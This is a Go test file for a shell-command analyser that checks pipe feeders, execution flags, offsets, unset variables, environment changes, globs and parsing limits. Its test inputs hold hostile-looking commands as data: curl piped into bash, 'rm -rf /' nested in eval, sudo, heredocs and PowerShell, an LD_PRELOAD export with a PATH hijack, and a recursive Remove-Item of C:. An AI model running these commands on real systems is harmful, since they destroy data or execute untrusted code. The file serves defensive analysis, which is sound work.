package shell

import (
	"slices"
	"strings"
	"testing"
)

func TestFacts_pipesKnowBothSides(t *testing.T) {
	f := Inspect(`curl -s http://x | tee log | (cd /tmp; bash) > out`, Bash, testWorld())
	var names []string
	for i := range f.Leaves {
		names = append(names, f.Leaves[i].Name)
	}
	if want := []string{"curl", "tee", "cd", "bash"}; !slices.Equal(names, want) {
		t.Fatalf("got %q, want %q", names, want)
	}
	if got := slices.Collect(f.Feeders(3)); !slices.Equal(got, []int{1}) {
		t.Errorf("bash is fed by %v, want tee", got)
	}
	if got := slices.Collect(f.Feeders(1)); !slices.Equal(got, []int{0}) {
		t.Errorf("tee is fed by %v, want curl", got)
	}
	if len(f.Opaque) != 1 || f.Opaque[0].Leaf != 3 || f.Opaque[0].Text.Holes[0].From != (Span{0, 1}) {
		t.Errorf("opaque %+v, want what curl prints, run by bash", f.Opaque)
	}
	bash := f.Leaves[3]
	if d, _ := bash.Dir.Exact(); d != "/tmp" {
		t.Errorf("bash runs in %q", d)
	}
	if len(bash.Redirects) != 1 || !bash.Redirects[0].Inherited || !bash.Redirects[0].Truncates() || bash.Stdout.Kind != OutputFile {
		t.Errorf("redirects of bash %+v", bash.Redirects)
	}
}

func TestFacts_flags(t *testing.T) {
	for _, c := range []struct {
		title, command string
		leaf           int
		want           Flags
	}{
		{"background", "rm a & b", 0, Background},
		{"after and", "a && rm b", 1, Conditional},
		{"loop", "for i in 1; do rm b; done", 0, Loop},
		{"while body", "while a; do rm b; done", 1, Loop | Conditional},
		{"function", "f() { rm b; }; f", 0, Function},
		{"trap", "trap 'rm b' INT", 1, Trap},
		{"substitution", "echo $(rm b)", 0, Substitution},
		{"remote", "ssh h rm b", 1, Remote},
		{"container", "docker exec c rm b", 1, Contained},
		{"elevated", "sudo rm b", 0, Elevated},
		{"per input", "ls | xargs rm", 1, PerInput},
		{"find exec", "find . -exec rm {} +", 1, PerInput},
		{"builtin", "cd /", 0, Builtin},
		{"assignment", "A=1", 0, AssignOnly},
		{"redirection", "> f", 0, RedirectOnly},
		{"emptied environment", "env -i rm b", 0, InlineEnvOnly},
		{"script", "bash clean.sh x", 1, FromScript},
	} {
		f := Inspect(c.command, Bash, testWorld())
		if c.leaf >= len(f.Leaves) || f.Leaves[c.leaf].Flags&c.want != c.want {
			t.Errorf("%s: %q leaf %d: got %s", c.title, c.command, c.leaf, show(f))
		}
		// The twin: a plain command has none of them.
		if f := Inspect("rm b", Bash, testWorld()); f.Leaves[0].Flags != 0 {
			t.Errorf("plain rm has flags %b", f.Leaves[0].Flags)
		}
	}
}

func TestFacts_offsetsPointIntoTheCommand(t *testing.T) {
	for _, c := range []struct{ command, want string }{
		{"a; rm -rf /", "rm -rf /"},
		{"sudo bash -c 'x; rm -rf /'", "rm -rf /"},
		{"bash <<'EOF'\nx\nrm -rf /\nEOF", "rm -rf /"},
		{"eval \"rm -rf /\"", "rm -rf /"},
		{"echo $(echo; rm -rf /)", "rm -rf /"},
		{`powershell -c "x; rm -rf /"`, "rm -rf /"},
	} {
		f := Inspect(c.command, Bash, testWorld())
		ok := false
		for _, l := range f.Leaves {
			if l.Name == "rm" {
				ok = strings.TrimSpace(f.Text[l.Offset:l.End]) == c.want
			}
		}
		if !ok {
			t.Errorf("%q: no leaf stands at %q", c.command, c.want)
		}
	}
	f := Inspect("a\nbb; rm x", Bash, World{})
	if line, col := f.Position(f.Leaves[2].Offset); line != 2 || col != 5 {
		t.Errorf("rm is at %d:%d, want 2:5", line, col)
	}
}

func TestFacts_unknownsSayWhere(t *testing.T) {
	f := Inspect(`rm -rf "$DIR/sub" "${REQ:?}/x" $(ls) $$ "$1"`, Bash, testWorld())
	rm := f.Leaves[1]
	dir := rm.Argv[2]
	if h := dir.Holes[0]; h.Kind != HoleVar || h.Name != "DIR" || !h.Unset || dir.Suffix() != "/sub" || dir.Prefix() != "" || dir.Splits {
		t.Errorf("$DIR: %+v", dir)
	}
	if h := rm.Argv[3].Holes[0]; !h.NonEmpty {
		t.Errorf("${REQ:?} may be empty: %+v", h)
	}
	if a := rm.Argv[4]; !a.Splits || a.Holes[0].Kind != HoleOutput || a.Holes[0].From != (Span{0, 1}) {
		t.Errorf("$(ls): %+v", a)
	}
	if a := rm.Argv[5]; a.Splits || a.Holes[0].Kind != HoleNumber {
		t.Errorf("$$: %+v", a)
	}
	if a := rm.Argv[6]; a.Holes[0].Kind != HoleParam {
		t.Errorf("$1: %+v", a)
	}
}

func TestFacts_environmentInForce(t *testing.T) {
	f := Inspect(`export LD_PRELOAD=/x.so; PATH=/evil:$PATH A=1 git log; env -u B C=2 ls`, Bash, testWorld())
	git, ls := f.Leaves[1], f.Leaves[2]
	if len(git.Exported) != 1 || git.Exported[0].Name != "LD_PRELOAD" {
		t.Errorf("exported %+v", git.Exported)
	}
	if len(git.Assigns) != 2 || git.Assigns[0].Value.Text != "/evil:/usr/bin:/bin" {
		t.Errorf("assigns %+v", git.Assigns)
	}
	if len(ls.Assigns) != 1 || ls.Assigns[0].Name != "C" || len(ls.Via) != 1 || len(ls.Via[0].Argv) != 4 {
		t.Errorf("ls %+v", ls)
	}
}

func TestFacts_globs(t *testing.T) {
	f := Inspect(`rm *.pyc *.none /etc/*`, Bash, testWorld())
	a := f.Leaves[0].Argv
	if a[1].FromGlob != "*.pyc" || a[1].Text != "a.pyc" || a[2].Text != "b.pyc" {
		t.Errorf("resolved glob %+v", a)
	}
	if !a[3].Glob || a[3].Text != "*.none" || !a[4].Glob {
		t.Errorf("unresolved globs %+v", a[3:])
	}
	if q := Inspect(`rm '*.pyc'`, Bash, testWorld()).Leaves[0].Argv[1]; q.Glob || q.FromGlob != "" {
		t.Errorf("quoted pattern %+v", q)
	}
}

func TestFacts_limits(t *testing.T) {
	for _, c := range []struct {
		what    string
		command string
		lim     Limits
	}{
		{"bytes", "echo 1234567890", Limits{Bytes: 10}},
		{"leaves", strings.Repeat("a;", 30), Limits{Leaves: 20}},
		{"depth", strings.Repeat("(", 10) + "a" + strings.Repeat(")", 10), Limits{Depth: 8}},
		{"steps", strings.Repeat("a;", 300), Limits{Steps: 100}},
		{"braces", "echo {1..20}{1..20}", Limits{Braces: 100}},
	} {
		f := Inspect(c.command, Bash, World{Limits: c.lim})
		if f.Over == nil || f.Over.What != c.what {
			t.Errorf("%s: over is %v", c.what, f.Over)
		} else if f.Over.String() == "" {
			t.Errorf("%s: no words for it", c.what)
		}
		if f := Inspect(c.command, Bash, World{}); f.Over != nil {
			t.Errorf("%s: over with default limits: %v", c.what, f.Over)
		}
	}
	f := Inspect("a; b; c", Bash, World{Budget: func() bool { return false }})
	if f.Over == nil || f.Over.What != "budget" {
		t.Errorf("budget: over is %v", f.Over)
	}
}

func TestFacts_depthOfSixtyFour(t *testing.T) {
	nest := func(n int) string { return strings.Repeat("{ ", n) + "rm x" + strings.Repeat("; }", n) }
	if f := Inspect(nest(60), Bash, World{}); f.Over != nil || len(f.Leaves) != 1 {
		t.Errorf("60 levels: %v", f.Over)
	}
	if f := Inspect(nest(70), Bash, World{}); f.Over == nil {
		t.Error("70 levels are not over the limit")
	}
}

func TestFacts_scriptsOverTheLimit(t *testing.T) {
	w := testWorld()
	w.ReadFile = func(path string, max int) (string, bool) {
		return strings.Repeat("a", 16), false
	}
	f := Inspect("bash big.sh", Bash, w)
	if len(f.Problems) == 0 || f.Problems[0].Kind != TooLarge {
		t.Errorf("problems %+v", f.Problems)
	}
}

func TestFacts_dialectIsNeverGuessed(t *testing.T) {
	// Read-only looks like PowerShell; the body of a here-document is data.
	f := Inspect("git commit -F - <<'EOF'\nRead-only \"x\nRemove-Item C:\\ -Recurse\nEOF", Bash, testWorld())
	if len(f.Leaves) != 1 || len(f.Problems) != 0 {
		t.Error(show(f))
	}
	if f := Inspect("Remove-Item x", Bash, testWorld()); f.Leaves[0].Name != "Remove-Item" {
		t.Error(show(f))
	}
	if f := Inspect("rm x", PowerShell, testWorld()); f.Leaves[0].Name != "remove-item" {
		t.Error(show(f))
	}
}

func TestLanguage_names(t *testing.T) {
	for d := Bash; d <= Cmd; d++ {
		if strings.Contains(d.String(), "unknown") {
			t.Errorf("dialect %d has no name", d)
		}
	}
}
